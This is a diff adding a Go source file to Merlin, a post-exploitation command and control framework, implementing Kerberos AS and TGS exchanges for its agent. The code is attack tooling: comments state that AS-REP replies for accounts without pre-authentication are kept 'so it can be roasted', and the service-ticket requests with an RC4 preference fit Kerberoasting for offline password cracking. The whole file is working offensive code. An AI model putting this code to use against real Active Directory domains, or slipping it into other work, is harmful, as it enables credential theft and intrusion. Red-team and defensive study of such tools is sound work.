@@ -0,0 +1,580 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"crypto/rand"
+	"encoding/asn1"
+	"encoding/binary"
+	"errors"
+	"fmt"
+	"io"
+	"math/big"
+	"net"
+	"strings"
+	"time"
+)
+
+// Kerberos message types and the application tags of their ASN.1 encoding
+const (
+	krbASReq  = 10
+	krbASRep  = 11
+	krbTGSReq = 12
+	krbTGSRep = 13
+	krbAPReq  = 14
+	krbError  = 30
+)
+
+// Kerberos pre-authentication data types
+const (
+	paTGSReq       = 1
+	paEncTimestamp = 2
+	paETypeInfo2   = 19
+	paPACRequest   = 128
+)
+
+// Kerberos error codes that a KDC returns to an authentication attempt
+// https://www.rfc-editor.org/rfc/rfc4120#section-7.5.9
+const (
+	kdcErrCPrincipalUnknown = 6
+	kdcErrPolicy            = 12
+	kdcErrETypeNoSupp       = 14
+	kdcErrClientRevoked     = 18
+	kdcErrKeyExpired        = 23
+	kdcErrPreauthFailed     = 24
+	kdcErrPreauthRequired   = 25
+	krbApErrSkew            = 37
+	kdcErrWrongRealm        = 68
+)
+
+// krbErrors are the names of Kerberos error codes that are reported to the operator
+var krbErrors = map[int32]string{
+	kdcErrCPrincipalUnknown: "KDC_ERR_C_PRINCIPAL_UNKNOWN",
+	7:                       "KDC_ERR_S_PRINCIPAL_UNKNOWN",
+	kdcErrPolicy:            "KDC_ERR_POLICY",
+	kdcErrETypeNoSupp:       "KDC_ERR_ETYPE_NOSUPP",
+	kdcErrClientRevoked:     "KDC_ERR_CLIENT_REVOKED",
+	kdcErrKeyExpired:        "KDC_ERR_KEY_EXPIRED",
+	kdcErrPreauthFailed:     "KDC_ERR_PREAUTH_FAILED",
+	kdcErrPreauthRequired:   "KDC_ERR_PREAUTH_REQUIRED",
+	31:                      "KRB_AP_ERR_BAD_INTEGRITY",
+	krbApErrSkew:            "KRB_AP_ERR_SKEW",
+	41:                      "KRB_AP_ERR_MODIFIED",
+	kdcErrWrongRealm:        "KDC_ERR_WRONG_REALM",
+}
+
+// Kerberos principal name types
+const (
+	ntPrincipal = 1
+	ntSrvInst   = 2
+)
+
+// principalName is a Kerberos PrincipalName; the name components are GeneralStrings, which encoding/asn1 can decode
+// but not encode, so they are raw values
+type principalName struct {
+	NameType   int32           `asn1:"explicit,tag:0"`
+	NameString []asn1.RawValue `asn1:"explicit,tag:1"`
+}
+
+// encryptedData is a Kerberos EncryptedData
+type encryptedData struct {
+	EType  int32  `asn1:"explicit,tag:0"`
+	KVNO   int    `asn1:"optional,explicit,tag:1"`
+	Cipher []byte `asn1:"explicit,tag:2"`
+}
+
+// encryptionKey is a Kerberos EncryptionKey
+type encryptionKey struct {
+	KeyType  int32  `asn1:"explicit,tag:0"`
+	KeyValue []byte `asn1:"explicit,tag:1"`
+}
+
+// paData is a Kerberos PA-DATA pre-authentication element
+type paData struct {
+	Type  int32  `asn1:"explicit,tag:1"`
+	Value []byte `asn1:"explicit,tag:2"`
+}
+
+// etypeInfo2Entry is an ETYPE-INFO2-ENTRY that tells the client which key and salt to pre-authenticate with
+type etypeInfo2Entry struct {
+	EType     int32  `asn1:"explicit,tag:0"`
+	Salt      string `asn1:"optional,explicit,tag:1"`
+	S2KParams []byte `asn1:"optional,explicit,tag:2"`
+}
+
+// paEncTSEnc is the PA-ENC-TS-ENC time stamp encrypted with the client's key to pre-authenticate
+type paEncTSEnc struct {
+	PATimestamp time.Time `asn1:"generalized,explicit,tag:0"`
+	PAUSec      int       `asn1:"optional,explicit,tag:1"`
+}
+
+// kerbPAPACRequest asks the KDC to include a PAC in the ticket
+type kerbPAPACRequest struct {
+	IncludePAC bool `asn1:"explicit,tag:0"`
+}
+
+// kdcReqBody is a Kerberos KDC-REQ-BODY. encoding/asn1 ignores the explicit tag of a raw value, so the realm is
+// wrapped in its tag by realmField
+type kdcReqBody struct {
+	KDCOptions        asn1.BitString  `asn1:"explicit,tag:0"`
+	CName             principalName   `asn1:"optional,explicit,tag:1"`
+	Realm             asn1.RawValue   `asn1:"explicit,tag:2"`
+	SName             principalName   `asn1:"optional,explicit,tag:3"`
+	Till              time.Time       `asn1:"generalized,explicit,tag:5"`
+	RTime             time.Time       `asn1:"generalized,optional,explicit,tag:6"`
+	Nonce             int32           `asn1:"explicit,tag:7"`
+	EType             []int32         `asn1:"explicit,tag:8"`
+	AdditionalTickets []asn1.RawValue `asn1:"optional,explicit,tag:11"`
+}
+
+// kdcReq is a Kerberos AS-REQ or TGS-REQ; the body is encoded separately because the TGS-REQ authenticator checksums
+// it and is wrapped in its tag by explicitField
+type kdcReq struct {
+	PVNO    int           `asn1:"explicit,tag:1"`
+	MsgType int           `asn1:"explicit,tag:2"`
+	PAData  []paData      `asn1:"optional,explicit,tag:3"`
+	ReqBody asn1.RawValue `asn1:"explicit,tag:4"`
+}
+
+// kdcRep is a Kerberos AS-REP or TGS-REP
+type kdcRep struct {
+	PVNO    int           `asn1:"explicit,tag:0"`
+	MsgType int           `asn1:"explicit,tag:1"`
+	PAData  []paData      `asn1:"optional,explicit,tag:2"`
+	CRealm  string        `asn1:"explicit,tag:3"`
+	CName   principalName `asn1:"explicit,tag:4"`
+	Ticket  asn1.RawValue `asn1:"explicit,tag:5"` // Decoded with its explicit tag
+	EncPart encryptedData `asn1:"explicit,tag:6"`
+}
+
+// krbTicket is a Kerberos Ticket
+type krbTicket struct {
+	TktVNO  int           `asn1:"explicit,tag:0"`
+	Realm   string        `asn1:"explicit,tag:1"`
+	SName   principalName `asn1:"explicit,tag:2"`
+	EncPart encryptedData `asn1:"explicit,tag:3"`
+}
+
+// encKDCRepPart is the part of an AS-REP or TGS-REP encrypted to the client that holds the session key
+type encKDCRepPart struct {
+	Key       encryptionKey  `asn1:"explicit,tag:0"`
+	LastReq   asn1.RawValue  `asn1:"explicit,tag:1"`
+	Nonce     int32          `asn1:"explicit,tag:2"`
+	KeyExp    time.Time      `asn1:"generalized,optional,explicit,tag:3"`
+	Flags     asn1.BitString `asn1:"explicit,tag:4"`
+	AuthTime  time.Time      `asn1:"generalized,explicit,tag:5"`
+	StartTime time.Time      `asn1:"generalized,optional,explicit,tag:6"`
+	EndTime   time.Time      `asn1:"generalized,explicit,tag:7"`
+	RenewTill time.Time      `asn1:"generalized,optional,explicit,tag:8"`
+	SRealm    string         `asn1:"explicit,tag:9"`
+	SName     principalName  `asn1:"explicit,tag:10"`
+	CAddr     asn1.RawValue  `asn1:"optional,explicit,tag:11"`
+	PAData    asn1.RawValue  `asn1:"optional,explicit,tag:12"`
+}
+
+// krbErrorMsg is a Kerberos KRB-ERROR
+type krbErrorMsg struct {
+	PVNO      int           `asn1:"explicit,tag:0"`
+	MsgType   int           `asn1:"explicit,tag:1"`
+	CTime     time.Time     `asn1:"generalized,optional,explicit,tag:2"`
+	CUSec     int           `asn1:"optional,explicit,tag:3"`
+	STime     time.Time     `asn1:"generalized,explicit,tag:4"`
+	SUSec     int           `asn1:"explicit,tag:5"`
+	ErrorCode int32         `asn1:"explicit,tag:6"`
+	CRealm    string        `asn1:"optional,explicit,tag:7"`
+	CName     principalName `asn1:"optional,explicit,tag:8"`
+	Realm     string        `asn1:"explicit,tag:9"`
+	SName     principalName `asn1:"explicit,tag:10"`
+	EText     string        `asn1:"optional,explicit,tag:11"`
+	EData     []byte        `asn1:"optional,explicit,tag:12"`
+}
+
+// kerberosError is a KRB-ERROR returned by the KDC
+type kerberosError struct {
+	Code int32
+	Text string
+	Data []byte
+}
+
+// Error returns the name of the Kerberos error code
+func (e *kerberosError) Error() string {
+	name, ok := krbErrors[e.Code]
+	if !ok {
+		name = fmt.Sprintf("Kerberos error %d", e.Code)
+	}
+	if e.Text != "" {
+		return fmt.Sprintf("%s: %s", name, e.Text)
+	}
+	return name
+}
+
+// generalString returns an ASN.1 GeneralString raw value
+func generalString(s string) asn1.RawValue {
+	return asn1.RawValue{Class: asn1.ClassUniversal, Tag: 27, Bytes: []byte(s)}
+}
+
+// explicitField wraps an encoded value in a context-specific tag for a raw value field
+func explicitField(tag int, inner []byte) asn1.RawValue {
+	return asn1.RawValue{Class: asn1.ClassContextSpecific, Tag: tag, IsCompound: true, Bytes: inner}
+}
+
+// realmField returns a realm GeneralString wrapped in its context-specific tag for a raw value field
+func realmField(tag int, realm string) asn1.RawValue {
+	return explicitField(tag, der(0x1b, []byte(realm)))
+}
+
+// newPrincipal returns a principal name of the type from its components
+func newPrincipal(nameType int32, components ...string) principalName {
+	p := principalName{NameType: nameType}
+	for _, c := range components {
+		p.NameString = append(p.NameString, generalString(c))
+	}
+	return p
+}
+
+// String returns the principal's components joined by slashes
+func (p principalName) String() string {
+	var components []string
+	for _, c := range p.NameString {
+		components = append(components, string(c.Bytes))
+	}
+	return strings.Join(components, "/")
+}
+
+// application wraps an encoded ASN.1 value in an application tag
+func application(tag int, inner []byte) ([]byte, error) {
+	return asn1.Marshal(asn1.RawValue{Class: asn1.ClassApplication, Tag: tag, IsCompound: true, Bytes: inner})
+}
+
+// nonce returns a random positive 31-bit nonce
+func nonce() int32 {
+	n, err := rand.Int(rand.Reader, big.NewInt(1<<31-1))
+	if err != nil {
+		return int32(time.Now().UnixNano() & 0x7fffffff)
+	}
+	return int32(n.Int64())
+}
+
+// kdcOptions encodes the KDC options forwardable, renewable, canonicalize, and renewable-ok as a 32-bit BIT STRING
+func kdcOptions() asn1.BitString {
+	return asn1.BitString{Bytes: []byte{0x40, 0x81, 0x00, 0x10}, BitLength: 32}
+}
+
+// asReq encodes an AS-REQ for a TGT for the user with the pre-authentication data
+func asReq(realm, user string, etypes []int32, padata []paData) ([]byte, error) {
+	body, err := asn1.Marshal(kdcReqBody{
+		KDCOptions: kdcOptions(),
+		CName:      newPrincipal(ntPrincipal, user),
+		Realm:      realmField(2, realm),
+		SName:      newPrincipal(ntSrvInst, "krbtgt", realm),
+		Till:       time.Now().UTC().Add(24 * time.Hour).Truncate(time.Second),
+		Nonce:      nonce(),
+		EType:      etypes,
+	})
+	if err != nil {
+		return nil, fmt.Errorf("there was an error encoding the AS-REQ body: %s", err)
+	}
+	pac, err := asn1.Marshal(kerbPAPACRequest{IncludePAC: true})
+	if err != nil {
+		return nil, err
+	}
+	req, err := asn1.Marshal(kdcReq{
+		PVNO:    5,
+		MsgType: krbASReq,
+		PAData:  append(padata, paData{Type: paPACRequest, Value: pac}),
+		ReqBody: explicitField(4, body),
+	})
+	if err != nil {
+		return nil, fmt.Errorf("there was an error encoding the AS-REQ: %s", err)
+	}
+	return application(krbASReq, req)
+}
+
+// kdcExchange sends a Kerberos message to the KDC over TCP and returns the reply; KRB-ERROR replies are returned as a
+// *kerberosError
+func kdcExchange(kdc string, msg []byte, timeout time.Duration) (reply asn1.RawValue, err error) {
+	if _, _, err = net.SplitHostPort(kdc); err != nil {
+		kdc = net.JoinHostPort(kdc, "88")
+	}
+	conn, err := net.DialTimeout("tcp", kdc, timeout)
+	if err != nil {
+		return reply, fmt.Errorf("there was an error connecting to the KDC %s: %s", kdc, err)
+	}
+	defer conn.Close()
+	_ = conn.SetDeadline(time.Now().Add(timeout))
+
+	// Kerberos over TCP prefixes each message with its 32-bit big-endian length
+	framed := make([]byte, 4, 4+len(msg))
+	binary.BigEndian.PutUint32(framed, uint32(len(msg)))
+	if _, err = conn.Write(append(framed, msg...)); err != nil {
+		return reply, fmt.Errorf("there was an error sending to the KDC %s: %s", kdc, err)
+	}
+	var length uint32
+	if err = binary.Read(conn, binary.BigEndian, &length); err != nil {
+		return reply, fmt.Errorf("there was an error reading from the KDC %s: %s", kdc, err)
+	}
+	if length > 1024*1024 {
+		return reply, fmt.Errorf("the KDC %s reply of %d bytes is too large", kdc, length)
+	}
+	data := make([]byte, length)
+	if _, err = io.ReadFull(conn, data); err != nil {
+		return reply, fmt.Errorf("there was an error reading from the KDC %s: %s", kdc, err)
+	}
+	if _, err = asn1.Unmarshal(data, &reply); err != nil {
+		return reply, fmt.Errorf("there was an error decoding the KDC %s reply: %s", kdc, err)
+	}
+	if reply.Class == asn1.ClassApplication && reply.Tag == krbError {
+		var e krbErrorMsg
+		if _, err = asn1.Unmarshal(reply.Bytes, &e); err != nil {
+			return reply, fmt.Errorf("there was an error decoding the KDC %s error: %s", kdc, err)
+		}
+		return reply, &kerberosError{Code: e.ErrorCode, Text: e.EText, Data: e.EData}
+	}
+	return reply, nil
+}
+
+// parseKDCRep decodes an AS-REP or TGS-REP and its ticket
+func parseKDCRep(reply asn1.RawValue) (rep kdcRep, ticket krbTicket, err error) {
+	if reply.Class != asn1.ClassApplication || (reply.Tag != krbASRep && reply.Tag != krbTGSRep) {
+		return rep, ticket, fmt.Errorf("the KDC returned an unexpected message with tag %d", reply.Tag)
+	}
+	if _, err = asn1.Unmarshal(reply.Bytes, &rep); err != nil {
+		return rep, ticket, fmt.Errorf("there was an error decoding the KDC reply: %s", err)
+	}
+	var app asn1.RawValue
+	if _, err = asn1.Unmarshal(rep.Ticket.Bytes, &app); err != nil {
+		return rep, ticket, fmt.Errorf("there was an error decoding the ticket: %s", err)
+	}
+	if _, err = asn1.Unmarshal(app.Bytes, &ticket); err != nil {
+		return rep, ticket, fmt.Errorf("there was an error decoding the ticket: %s", err)
+	}
+	return
+}
+
+// supportedETypes are the encryption types the agent requests, in order of preference
+var supportedETypes = []int32{etypeAES256, etypeAES128, etypeRC4}
+
+// preauthETypes returns the encryption types, salts, and string-to-key parameters a KDC offered for pre-authentication
+func preauthETypes(e *kerberosError) (entries []etypeInfo2Entry) {
+	var methods []paData
+	if _, err := asn1.Unmarshal(e.Data, &methods); err != nil {
+		return
+	}
+	for _, method := range methods {
+		if method.Type == paETypeInfo2 {
+			_, _ = asn1.Unmarshal(method.Value, &entries)
+		}
+	}
+	return
+}
+
+// krbCredential is a TGT obtained from an AS exchange with its session key
+type krbCredential struct {
+	realm   string
+	user    string
+	ticket  []byte // The encoded Ticket
+	key     encryptionKey
+	expires time.Time
+}
+
+// asExchange requests a TGT for the user with the password. The first request is made without pre-authentication to
+// learn the encryption types and salt the KDC expects; if the account does not require pre-authentication the AS-REP
+// to that request is returned with a nil credential so it can be roasted. KRB-ERROR replies are returned as a
+// *kerberosError
+func asExchange(kdc, realm, user, password string, timeout time.Duration) (cred *krbCredential, asrep *kdcRep, err error) {
+	realm = strings.ToUpper(realm)
+	req, err := asReq(realm, user, supportedETypes, nil)
+	if err != nil {
+		return
+	}
+	reply, err := kdcExchange(kdc, req, timeout)
+	var kerr *kerberosError
+	if err == nil {
+		// Pre-authentication is not required for this account
+		rep, _, err := parseKDCRep(reply)
+		if err != nil {
+			return nil, nil, err
+		}
+		return nil, &rep, nil
+	}
+	if !errors.As(err, &kerr) || kerr.Code != kdcErrPreauthRequired {
+		return nil, nil, err
+	}
+
+	// Use the first encryption type the KDC offered that the agent supports
+	etype, salt, iterations := int32(etypeRC4), realm+user, 0
+	for _, entry := range preauthETypes(kerr) {
+		if entry.EType == etypeAES256 || entry.EType == etypeAES128 || entry.EType == etypeRC4 {
+			etype = entry.EType
+			if entry.Salt != "" {
+				salt = entry.Salt
+			}
+			if len(entry.S2KParams) == 4 {
+				iterations = int(binary.BigEndian.Uint32(entry.S2KParams))
+			}
+			break
+		}
+	}
+	key, err := stringToKey(int(etype), password, salt, iterations)
+	if err != nil {
+		return nil, nil, err
+	}
+	now := time.Now().UTC()
+	ts, err := asn1.Marshal(paEncTSEnc{PATimestamp: now.Truncate(time.Second), PAUSec: now.Nanosecond() / 1000})
+	if err != nil {
+		return nil, nil, err
+	}
+	// Key usage 1 is the AS-REQ PA-ENC-TIMESTAMP
+	encrypted, err := krbEncrypt(int(etype), key, 1, ts)
+	if err != nil {
+		return nil, nil, err
+	}
+	value, err := asn1.Marshal(encryptedData{EType: etype, Cipher: encrypted})
+	if err != nil {
+		return nil, nil, err
+	}
+	if req, err = asReq(realm, user, []int32{etype}, []paData{{Type: paEncTimestamp, Value: value}}); err != nil {
+		return nil, nil, err
+	}
+	if reply, err = kdcExchange(kdc, req, timeout); err != nil {
+		return nil, nil, err
+	}
+	rep, _, err := parseKDCRep(reply)
+	if err != nil {
+		return nil, nil, err
+	}
+	// Key usage 3 is the AS-REP encrypted part
+	plain, err := krbDecrypt(int(rep.EncPart.EType), key, 3, rep.EncPart.Cipher)
+	if err != nil {
+		return nil, nil, fmt.Errorf("there was an error decrypting the AS-REP: %s", err)
+	}
+	var part asn1.RawValue
+	if _, err = asn1.Unmarshal(plain, &part); err != nil {
+		return nil, nil, fmt.Errorf("there was an error decoding the AS-REP encrypted part: %s", err)
+	}
+	var enc encKDCRepPart
+	if _, err = asn1.Unmarshal(part.Bytes, &enc); err != nil {
+		return nil, nil, fmt.Errorf("there was an error decoding the AS-REP encrypted part: %s", err)
+	}
+	return &krbCredential{realm: realm, user: user, ticket: rep.Ticket.Bytes, key: enc.Key, expires: enc.EndTime}, nil, nil
+}
+
+// krbChecksumData is a Kerberos Checksum
+type krbChecksumData struct {
+	CksumType int32  `asn1:"explicit,tag:0"`
+	Checksum  []byte `asn1:"explicit,tag:1"`
+}
+
+// krbAuthenticator is a Kerberos Authenticator that proves possession of a ticket's session key; the realm is wrapped
+// in its tag by realmField
+type krbAuthenticator struct {
+	AVNO   int             `asn1:"explicit,tag:0"`
+	CRealm asn1.RawValue   `asn1:"explicit,tag:1"`
+	CName  principalName   `asn1:"explicit,tag:2"`
+	Cksum  krbChecksumData `asn1:"optional,explicit,tag:3"`
+	CUSec  int             `asn1:"explicit,tag:4"`
+	CTime  time.Time       `asn1:"generalized,explicit,tag:5"`
+}
+
+// apReq is a Kerberos AP-REQ; the ticket is wrapped in its tag by explicitField
+type apReq struct {
+	PVNO          int            `asn1:"explicit,tag:0"`
+	MsgType       int            `asn1:"explicit,tag:1"`
+	APOptions     asn1.BitString `asn1:"explicit,tag:2"`
+	Ticket        asn1.RawValue  `asn1:"explicit,tag:3"`
+	Authenticator encryptedData  `asn1:"explicit,tag:4"`
+}
+
+// spnPrincipal returns the service principal name as a principal of the service instance type
+func spnPrincipal(spn string) principalName {
+	return newPrincipal(ntSrvInst, strings.Split(spn, "/")...)
+}
+
+// tgsExchange uses the TGT to request a service ticket for the SPN encrypted with one of the encryption types.
+// KRB-ERROR replies are returned as a *kerberosError
+func tgsExchange(kdc string, cred *krbCredential, spn string, etypes []int32, timeout time.Duration) (ticket krbTicket, err error) {
+	body, err := asn1.Marshal(kdcReqBody{
+		KDCOptions: kdcOptions(),
+		Realm:      realmField(2, cred.realm),
+		SName:      spnPrincipal(spn),
+		Till:       time.Now().UTC().Add(24 * time.Hour).Truncate(time.Second),
+		Nonce:      nonce(),
+		EType:      etypes,
+	})
+	if err != nil {
+		return ticket, fmt.Errorf("there was an error encoding the TGS-REQ body: %s", err)
+	}
+
+	// Key usage 6 is the TGS-REQ authenticator checksum and 7 is the TGS-REQ authenticator
+	etype := int(cred.key.KeyType)
+	cksumType, cksum, err := krbChecksum(etype, cred.key.KeyValue, 6, body)
+	if err != nil {
+		return
+	}
+	now := time.Now().UTC()
+	auth, err := asn1.Marshal(krbAuthenticator{
+		AVNO:   5,
+		CRealm: realmField(1, cred.realm),
+		CName:  newPrincipal(ntPrincipal, cred.user),
+		Cksum:  krbChecksumData{CksumType: cksumType, Checksum: cksum},
+		CUSec:  now.Nanosecond() / 1000,
+		CTime:  now.Truncate(time.Second),
+	})
+	if err != nil {
+		return ticket, fmt.Errorf("there was an error encoding the authenticator: %s", err)
+	}
+	if auth, err = application(2, auth); err != nil {
+		return
+	}
+	encrypted, err := krbEncrypt(etype, cred.key.KeyValue, 7, auth)
+	if err != nil {
+		return
+	}
+	ap, err := asn1.Marshal(apReq{
+		PVNO:          5,
+		MsgType:       krbAPReq,
+		APOptions:     asn1.BitString{Bytes: make([]byte, 4), BitLength: 32},
+		Ticket:        explicitField(3, cred.ticket),
+		Authenticator: encryptedData{EType: int32(etype), Cipher: encrypted},
+	})
+	if err != nil {
+		return ticket, fmt.Errorf("there was an error encoding the AP-REQ: %s", err)
+	}
+	if ap, err = application(krbAPReq, ap); err != nil {
+		return
+	}
+	req, err := asn1.Marshal(kdcReq{
+		PVNO:    5,
+		MsgType: krbTGSReq,
+		PAData:  []paData{{Type: paTGSReq, Value: ap}},
+		ReqBody: explicitField(4, body),
+	})
+	if err != nil {
+		return ticket, fmt.Errorf("there was an error encoding the TGS-REQ: %s", err)
+	}
+	if req, err = application(krbTGSReq, req); err != nil {
+		return
+	}
+	reply, err := kdcExchange(kdc, req, timeout)
+	if err != nil {
+		return
+	}
+	_, ticket, err = parseKDCRep(reply)
+	return
+}